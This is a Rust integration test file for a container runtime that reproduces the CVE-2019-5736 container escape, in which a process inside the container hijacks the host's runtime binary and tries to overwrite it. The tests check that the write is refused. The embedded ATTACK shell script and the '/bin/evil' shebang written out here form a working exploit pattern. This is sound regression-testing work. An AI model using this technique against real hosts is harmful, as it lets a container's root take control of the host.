//! Class: the runtime's own binary written from inside the container (CVE-2019-5736).
//! The init and the exec helper are clones of the runtime, so until their `execve`
//! their exe link is the runtime's binary. The image ships `/bin/evil`, a script whose
//! interpreter is `/proc/self/exe`: when the runtime's clone executes it, the kernel runs
//! the *host's runtime binary* inside the container, as the container's root — here
//! told `--log=/tmp/gate`, a FIFO, so it waits there. A second container process
//! (`/bin/attack`) opens that process's `/proc/<pid>/exe` (allowed: same user, and a
//! freshly executed process is dumpable), lets it go, and once no process runs the
//! binary any more (so no ETXTBSY) reopens its fd for writing and appends to it. If that
//! works, the host binary is changed for every later call.
//!
//! Each test runs a private copy of the runtime (a failure cannot damage the binary under
//! test), checks that the hijack and the attack really happened (the runtime's usage
//! error came through the FIFO; the attacker held the exe), and that the copy's bytes
//! are unchanged. runc 1.1.5 protects itself with a memfd copy; quai runs from a
//! read-only view of its binary.

use integration_tests::assets::{is_runc, runtime_bin};
use integration_tests::{Ctr, TempDir};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// What the hijacked runtime says about its command line (`/bin/evil` as a command).
const HIJACKED: &str = "unrecognized subcommand '/bin/evil'";

/// A private copy of the runtime binary, and its bytes.
fn private_runtime(dir: &TempDir) -> (PathBuf, Vec<u8>) {
    let bin = dir.join("quai");
    std::fs::copy(runtime_bin(), &bin).expect("copy the runtime");
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
    let bytes = std::fs::read(&bin).unwrap();
    (bin, bytes)
}

/// The attacker: finds the hijacked runtime, holds its binary, lets it go, and writes
/// through the held fd once the binary is no longer executed. Its verdict goes to
/// `/tmp/result`, what the runtime said to `/tmp/said`.
const ATTACK: &str = r#"#!/bin/sh
for p in /proc/[0-9]*; do
    # Ours: named evil and in this container (another test's may be visible too).
    if [ "$(cat $p/comm 2>/dev/null)" = evil ] && [ $p/root/tmp/gate -ef /tmp/gate ]; then
        pid=${p#/proc/}; break
    fi
done
if [ -z "$pid" ]; then echo "no hijacked runtime" > /tmp/result.part; mv /tmp/result.part /tmp/result; exit 0; fi
if ! exec 3< /proc/$pid/exe; then echo "could not open its exe" > /tmp/result.part; mv /tmp/result.part /tmp/result; exit 0; fi
cat /tmp/gate > /tmp/said
while s=$(grep '^State:' /proc/$pid/status 2>/dev/null) && [ "${s#*Z}" = "$s" ]; do :; done
if (echo EVIL >> /proc/self/fd/3) 2> /tmp/why; then echo wrote > /tmp/result.part; else echo "refused: $(cat /tmp/why)" > /tmp/result.part; fi
mv /tmp/result.part /tmp/result
"#;

/// Plants `/bin/evil`, the FIFO it logs to, `/bin/attack` and, for a dynamically
/// linked runtime, its loader and libraries at the paths the runtime names (a static
/// runtime needs nothing from the image).
fn plant_evil(c: &Ctr, bin: &Path) {
    let rootfs = c.bundle.rootfs();
    for (name, text) in [
        ("bin/evil", "#!/proc/self/exe --log=/tmp/gate\n"),
        ("bin/attack", ATTACK),
    ] {
        let at = rootfs.join(name);
        std::fs::write(&at, text).unwrap();
        std::fs::set_permissions(&at, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    std::fs::create_dir_all(rootfs.join("tmp")).unwrap();
    let gate = std::ffi::CString::new(rootfs.join("tmp/gate").to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(gate.as_ptr(), 0o600) }, 0, "mkfifo");
    let ldd = std::process::Command::new("ldd")
        .arg(bin)
        .output()
        .expect("ldd");
    for line in String::from_utf8_lossy(&ldd.stdout).lines() {
        // "libc.so.6 => /lib/x86_64-linux-gnu/libc.so.6 (0x...)" or
        // "/lib64/ld-linux-x86-64.so.2 (0x...)"
        let path = match line.split_once("=>") {
            Some((_, rest)) => rest.split_whitespace().next(),
            None => line.split_whitespace().next(),
        };
        let Some(path) = path.filter(|p| p.starts_with('/')) else {
            continue;
        };
        let to = rootfs.join(path.trim_start_matches('/'));
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        if !to.exists() {
            std::fs::copy(path, &to).unwrap_or_else(|e| panic!("copy {path}: {e}"));
        }
    }
}

/// Waits (bounded) for the attacker's verdict and checks it, what the hijacked runtime
/// said, and the binary.
fn judge(c: &Ctr, bin: &Path, original: &[u8]) {
    let result = c.bundle.rootfs().join("tmp/result");
    let start = Instant::now();
    while !result.exists() {
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "the attacker never finished"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
    let verdict = std::fs::read_to_string(&result).unwrap();
    let said = std::fs::read_to_string(c.bundle.rootfs().join("tmp/said")).unwrap_or_default();
    assert!(
        said.contains(HIJACKED),
        "the runtime did not run inside the container ({verdict:?}; it said {said:?}): \
         nothing was attacked"
    );
    assert_untouched(bin, original);
    // quai's view is read-only (EROFS); runc's sealed memfd copy refuses otherwise.
    let why_ok = is_runc() || verdict.contains("Read-only file system");
    assert!(
        verdict.starts_with("refused") && why_ok,
        "the attacker held the runtime's binary and reopened it for writing: {verdict:?}"
    );
}

fn assert_untouched(bin: &Path, original: &[u8]) {
    let now = std::fs::read(bin).expect("read the runtime copy");
    assert!(
        now == original,
        "the runtime binary was written from inside the container: {} -> {} bytes, \
         ends with {:?}",
        original.len(),
        now.len(),
        String::from_utf8_lossy(&now[now.len().saturating_sub(120)..])
    );
}

#[test]
fn exec_cannot_write_the_runtime_binary() {
    let dir = TempDir::new("exe-overwrite");
    let (bin, original) = private_runtime(&dir);
    let mut c = Ctr::with_runtime(bin.clone());
    c.bundle.args(&["/bin/probe", "sleep", "forever"]);
    plant_evil(&c, &bin);
    c.run(&["-d"]).ok();
    c.cmd(&["exec", "-d", &c.id, "/bin/evil"]).ok();
    c.cmd(&["exec", "-d", &c.id, "/bin/attack"]).ok();
    judge(&c, &bin, &original);
}

/// The container's own process as the hijacked runtime. In its own pid namespace it
/// would be PID 1, whose exit kills the attacker before it can write (the attack needs
/// the binary no longer executed): the container shares the host's pid namespace, as
/// `docker run --pid=host` does.
#[test]
fn the_containers_process_cannot_write_the_runtime_binary() {
    let dir = TempDir::new("exe-overwrite");
    let (bin, original) = private_runtime(&dir);
    let mut c = Ctr::with_runtime(bin.clone());
    c.bundle.args(&["/bin/evil"]);
    c.bundle.remove_namespace("pid");
    plant_evil(&c, &bin);
    c.create(&[]).ok();
    c.start().ok();
    c.cmd(&["exec", "-d", &c.id, "/bin/attack"]).ok();
    judge(&c, &bin, &original);
}
